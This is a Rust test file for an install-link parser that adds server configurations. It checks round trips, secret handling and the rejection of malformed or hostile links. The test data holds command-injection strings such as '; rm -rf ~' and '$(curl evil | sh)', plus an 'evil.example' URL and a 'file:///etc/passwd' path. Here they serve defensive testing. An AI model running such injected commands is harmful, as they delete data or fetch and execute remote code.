//! Install links: round trips, and hostile links refused with the reason.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;
use crate::config::Binding;
use crate::ids::SecretName;

fn link_of(json: &str) -> String {
    format!("switchboard://add?config={}", B64.encode(json.as_bytes()))
}

fn stdio(args: &[&str], env: Vec<NamedValue>) -> ServerSpec {
    ServerSpec {
        id: ServerId::new("everything").unwrap(),
        transport: TransportSpec::Stdio(StdioSpec {
            command: "npx".into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            env,
            cwd: None,
            sandbox: SandboxSpec::default(),
        }),
        enabled: true,
        timeouts: Timeouts::default(),
    }
}

fn nv(name: &str, value: ValueSource) -> NamedValue {
    NamedValue {
        name: name.into(),
        value,
    }
}

fn secret(name: &str) -> ValueSource {
    ValueSource::Secret(SecretName::new(name).unwrap())
}

#[test]
fn a_stdio_server_round_trips_with_shell_metacharacters_literal() {
    let args = [
        "-y",
        "@scope/pkg@1.2.3",
        "; rm -rf ~",
        "$(curl evil | sh)",
        "`id`",
        "a && b || c > /etc/passwd",
        "quote'\"",
        "ünïcödé ✓",
        "",
    ];
    let spec = stdio(
        &args,
        vec![
            nv("LOG_LEVEL", ValueSource::Plain("debug".into())),
            nv("GITHUB_TOKEN", secret("GITHUB_TOKEN")),
        ],
    );
    let made = make_link(&spec).unwrap();
    assert!(made.url.starts_with("switchboard://add?config="));
    assert!(made.left_out.is_empty(), "{:?}", made.left_out);
    let back = parse_link(&made.url).unwrap();
    assert_eq!(back.spec, spec);
    assert_eq!(back.asked, vec!["GITHUB_TOKEN".to_owned()]);
    // Every argument is one argument, byte for byte: nothing went through a shell.
    let TransportSpec::Stdio(s) = &back.spec.transport else {
        panic!()
    };
    assert_eq!(s.args, args);
}

#[test]
fn a_remote_server_round_trips_with_its_secret_header_asked() {
    let spec = ServerSpec {
        id: ServerId::new("remote").unwrap(),
        transport: TransportSpec::Http(HttpSpec {
            url: "https://mcp.example.com/mcp?x=1&y=2".into(),
            headers: vec![
                nv("Authorization", secret("Authorization")),
                nv("X-Team", ValueSource::Plain("blue".into())),
            ],
            auth: None,
            allow_insecure: false,
        }),
        enabled: true,
        timeouts: Timeouts::default(),
    };
    let made = make_link(&spec).unwrap();
    let back = parse_link(&made.url).unwrap();
    assert_eq!(back.spec, spec);
    assert_eq!(back.asked, vec!["Authorization".to_owned()]);
}

#[test]
fn a_made_link_never_carries_a_secret() {
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let mut spec = stdio(
        &["x"],
        vec![
            nv("PLAIN_BUT_SECRET", ValueSource::Plain(token.into())),
            nv("API_KEY", ValueSource::Plain("hunter2hunter2".into())),
            nv(
                "BOUND",
                ValueSource::Bound(Binding::parse("provider:openai").unwrap()),
            ),
        ],
    );
    // LK-01: plain credentials make it refuse, naming each; nothing is made.
    match make_link(&spec) {
        Err(LinkError::CredentialsInServer(found)) => {
            assert_eq!(found.len(), 2, "{found:?}");
            assert!(found.iter().all(|f| !f.contains(token)), "{found:?}");
            assert!(
                found.iter().any(|f| f.contains("PLAIN_BUT_SECRET")),
                "{found:?}"
            );
            assert!(found.iter().any(|f| f.contains("API_KEY")), "{found:?}");
        }
        other => panic!("a link was made of plain credentials: {other:?}"),
    }

    // Kept in the keyring instead, they become "ask"; private settings stay out.
    if let TransportSpec::Stdio(s) = &mut spec.transport {
        s.env.retain(|v| v.name == "BOUND");
        s.cwd = Some("/srv/private".into());
    }
    spec.timeouts.request_secs = 5;
    let made = make_link(&spec).unwrap();
    let json = String::from_utf8(
        B64.decode(made.url.split_once("config=").unwrap().1)
            .unwrap(),
    )
    .unwrap();
    assert!(!json.contains("openai"), "{json}");
    assert!(!json.contains("/srv/private"), "{json}");
    assert_eq!(made.left_out.len(), 2, "{:?}", made.left_out);
    let back = parse_link(&made.url).unwrap();
    assert_eq!(back.asked, ["BOUND"]);
}

#[test]
fn secrets_in_a_link_are_refused() {
    for json in [
        // A token by its shape, whatever the name.
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"X","value":"ghp_0123456789abcdefghijABCDEFGHIJ012345"}]}"#,
        // A credential by its name.
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"GITHUB_TOKEN","value":"abc123"}]}"#,
        // "ask" with a value: the value would be a default the person never typed.
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"X","value":"1","ask":true}]}"#,
        r#"{"type":"http","name":"a","url":"https://e.example/","headers":[{"name":"Authorization","value":"Bearer abcdef"}]}"#,
        // A password in a plain value's URL.
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"DB","value":"postgresql://app:pw@db/app"}]}"#,
    ] {
        assert!(
            matches!(parse_link(&link_of(json)), Err(LinkError::SecretInLink(_))),
            "{json}: {:?}",
            parse_link(&link_of(json))
        );
    }
    // Flags under credential-looking names are not secrets.
    let ok =
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"USE_TOKEN","value":"true"}]}"#;
    parse_link(&link_of(ok)).unwrap();
}

#[test]
fn an_asked_header_over_plain_http_to_another_machine_is_refused() {
    let json = r#"{"type":"http","name":"a","url":"http://evil.example/mcp","headers":[{"name":"Authorization","ask":true}]}"#;
    assert!(matches!(
        parse_link(&link_of(json)),
        Err(LinkError::Spec(SpecError::CleartextSecret { .. }))
    ));
}

#[test]
fn unknown_fields_and_types_are_refused() {
    for json in [
        r#"{"type":"stdio","name":"a","command":"x","cwd":"/"}"#,
        r#"{"type":"stdio","name":"a","command":"x","sandbox":{"kind":"off"}}"#,
        r#"{"type":"http","name":"a","url":"https://e.example/","allow_insecure":true}"#,
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"X","value":"1","secret":false}]}"#,
        r#"{"type":"sse","name":"a","url":"https://e.example/"}"#,
        r#"{"name":"a","command":"x"}"#,
        r#"{"type":"stdio","name":"a","command":"x","args":"-y pkg"}"#,
        r#"{"type":"stdio","name":"a","name":"b","command":"x"}"#,
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"X"}]}"#,
        r#"[{"type":"stdio","name":"a","command":"x"}]"#,
        r#"{"mcpServers":{"a":{"command":"x"}}}"#,
        "not json",
    ] {
        assert!(
            matches!(parse_link(&link_of(json)), Err(LinkError::BadConfig(_))),
            "{json}: {:?}",
            parse_link(&link_of(json))
        );
    }
}

#[test]
fn invalid_specs_are_refused() {
    for json in [
        r#"{"type":"stdio","name":"a","command":""}"#,
        r#"{"type":"stdio","name":"a","command":"x\u0000y"}"#,
        r#"{"type":"stdio","name":"a","command":"x","args":["a\u0000b"]}"#,
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"1BAD","value":"v"}]}"#,
        r#"{"type":"stdio","name":"a","command":"x","env":[{"name":"A","value":"x\ny"}]}"#,
        r#"{"type":"http","name":"a","url":"file:///etc/passwd"}"#,
        r#"{"type":"http","name":"a","url":"https://user:pw@e.example/"}"#,
    ] {
        assert!(
            matches!(parse_link(&link_of(json)), Err(LinkError::Spec(_))),
            "{json}: {:?}",
            parse_link(&link_of(json))
        );
    }
    for name in ["", "../etc", "a b", "-x"] {
        let json = format!(r#"{{"type":"stdio","name":"{name}","command":"x"}}"#);
        assert!(
            matches!(parse_link(&link_of(&json)), Err(LinkError::BadConfig(_))),
            "{name:?}"
        );
    }
}

#[test]
fn huge_and_bomb_links_are_refused_cheaply() {
    let huge = link_of(&format!(
        r#"{{"type":"stdio","name":"a","command":"{}"}}"#,
        "x".repeat(1_000_000)
    ));
    assert_eq!(parse_link(&huge), Err(LinkError::TooLong(huge.len())));
    // Nested arrays as deep as the size cap allows: refused, no stack overflow.
    let depth = 2_500;
    let bomb = format!(
        r#"{{"type":"stdio","name":"a","command":"x","args":{}{}}}"#,
        "[".repeat(depth),
        "]".repeat(depth)
    );
    assert!(matches!(
        parse_link(&link_of(&bomb)),
        Err(LinkError::BadConfig(_))
    ));
    let deep_unknown = format!(
        r#"{{"type":"stdio","name":"a","command":"x","extra":{}{}}}"#,
        r#"{"a":"#.repeat(1000),
        "}".repeat(1000)
    );
    assert!(matches!(
        parse_link(&link_of(&deep_unknown)),
        Err(LinkError::BadConfig(_))
    ));
    let many = format!(
        r#"{{"type":"stdio","name":"a","command":"x","args":[{}]}}"#,
        vec![r#""a""#; MAX_ITEMS + 1].join(",")
    );
    assert!(matches!(
        parse_link(&link_of(&many)),
        Err(LinkError::BadConfig(_))
    ));
}

#[test]
fn other_schemes_hosts_and_shapes_are_refused() {
    let ok = link_of(r#"{"type":"stdio","name":"a","command":"x"}"#);
    parse_link(&ok).unwrap();
    let config = ok.split_once('?').unwrap().1;
    for bad in [
        format!("https://add?{config}"),
        format!("vscode:mcp/install?{config}"),
        format!("cursor://anysphere.cursor-deeplink/mcp/install?name=a&{config}"),
        format!("switchboard://remove?{config}"),
        format!("switchboard://add.evil.example?{config}"),
        format!("switchboard://add/mcp/install?{config}"),
        format!("switchboard://add:80?{config}"),
        format!("switchboard://user@add?{config}"),
        format!("switchboard://add?{config}#frag"),
        format!("switchboard://add?{config}&name=b"),
        format!("switchboard://add?{config}&{config}"),
        "switchboard://add".to_owned(),
        "switchboard://add?".to_owned(),
        "switchboard:add".to_owned(),
        "not a link".to_owned(),
    ] {
        assert!(
            matches!(parse_link(&bad), Err(LinkError::NotALink(_))),
            "{bad}: {:?}",
            parse_link(&bad)
        );
    }
    for bad_b64 in ["%%%", "e30=!", "***", "AAAA%00"] {
        let link = format!("switchboard://add?config={bad_b64}");
        assert!(
            matches!(parse_link(&link), Err(LinkError::BadConfig(_))),
            "{link}"
        );
    }
    // Padding is optional; the standard alphabet's '+' and '/' are not base64url.
    let padded = format!("{ok}==");
    assert!(parse_link(&padded).is_err());
    let with_pad = format!(
        "switchboard://add?config={}",
        base64::engine::general_purpose::URL_SAFE
            .encode(br#"{"type":"stdio","name":"a","command":"x"}"#)
    );
    parse_link(&with_pad).unwrap();
}
